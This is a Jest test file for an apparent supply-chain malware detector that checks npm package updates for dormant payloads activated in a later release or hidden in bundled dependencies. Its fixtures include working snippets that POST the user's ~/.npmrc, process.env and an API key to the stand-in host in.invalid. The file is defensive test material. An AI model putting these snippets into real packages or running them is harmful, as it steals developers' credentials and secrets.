import { describe, expect, it } from '@jest/globals';
import { gradesOf } from '../helpers/an-update.ts';

const steals = `const fs = require('fs'), os = require('os'), https = require('https');
exports.send = () => { const q = https.request({ host: 'in.invalid', method: 'POST' }); q.end(fs.readFileSync(os.homedir() + '/.npmrc')) }`;
const loads = steals.replace('exports.send', 'exports.load');
const plain = 'module.exports = 1';
const telemetry = `const os = require('os'); fetch('https://stats.example/x', { method: 'POST', body: JSON.stringify({ h: os.hostname() }) });`;

const graded = async (before: Record<string, string>, after: Record<string, string>, manifest: Record<string, unknown> = {}) =>
  (await gradesOf(before, after, manifest)).import.grade;

describe('a payload that is shipped by one release and runs by the next', () => {
  it.each([
    ['nothing led to', { 'index.js': plain, 'lib/x.js': steals }, { 'index.js': `require('./lib/x').send()`, 'lib/x.js': steals }],
    [
      'waited for a call',
      { 'index.js': `exports.x = require('./lib/x')`, 'lib/x.js': loads },
      { 'index.js': `require('./lib/x').load()`, 'lib/x.js': loads },
    ],
    ['was in a function of the entry point', { 'index.js': steals }, { 'index.js': `${steals}\nexports.send()` }],
  ])('%s: convicts', async (_, before, after) => {
    expect(await graded(before, after, { exports: './index.js' })).toBe('convicts');
  });

  it('only a command led to: convicts when an import does', async () => {
    const files = { 'cli.js': loads.replace('exports.load =', 'const load =').concat('; load()') };
    expect(
      await graded({ ...files, 'index.js': plain }, { ...files, 'index.js': `require('./cli')` }, { exports: './index.js', bin: { a: 'cli.js' } }),
    ).toBe('convicts');
  });

  it('waits as it did before: is no news', async () => {
    const files = { 'index.js': `exports.x = require('./lib/x')`, 'lib/x.js': loads };
    expect(await graded(files, { ...files, 'index.js': `${files['index.js']}\nexports.two = 2` })).toBe('none');
  });

  it('counts beside telemetry that was there before', async () => {
    const after = `${telemetry} fetch('https://in.invalid/x', { method: 'POST', body: JSON.stringify(process.env) })`;
    expect(await graded({ 'index.js': telemetry }, { 'index.js': after })).toBe('convicts');
  });

  it('a host that only a dead file named is new to who sends it a key', async () => {
    const sends = (host: string) => `exports.call = (apiKey) => fetch('https://${host}/v1', { headers: { authorization: apiKey } }).catch(() => {})`;
    const dead = { 'lib/old.js': `fetch('https://in.invalid/x')` };
    const [before, after] = [sends('api.example'), `${sends('api.example')}; ${sends('in.invalid')}`];
    expect(await graded({ ...dead, 'index.js': before }, { ...dead, 'index.js': after }, { exports: './index.js' })).toBe('convicts');
  });
});

describe('a package that lies within another', () => {
  const inner = 'node_modules/inner/package.json';
  const within = { [inner]: '{"name":"inner","version":"1.0.0","main":"lib/a.js"}', 'node_modules/inner/lib/a.js': loads };

  it.each([
    ['by its name', `require('inner').load()`],
    ['by the name of its file', `require('inner/lib/a').load()`],
    ['by a name it was imported under', `const { load } = require('inner'); load()`],
  ])('called on load %s: convicts', async (_, index) => {
    expect(await graded({ 'index.js': plain }, { ...within, 'index.js': index }, { bundleDependencies: ['inner'] })).toBe('convicts');
  });

  it('is found from a package beside it', async () => {
    const files = {
      ...within,
      'node_modules/outer/package.json': '{"name":"outer","version":"1.0.0"}',
      'node_modules/outer/index.js': `require('inner').load()`,
    };
    expect(await graded({ 'index.js': plain }, { ...files, 'index.js': `require('outer')` })).toBe('convicts');
  });

  it('that nobody calls waits', async () => {
    expect(await graded({ 'index.js': plain }, { ...within, 'index.js': `exports.inner = require('inner')` })).not.toBe('convicts');
  });
});
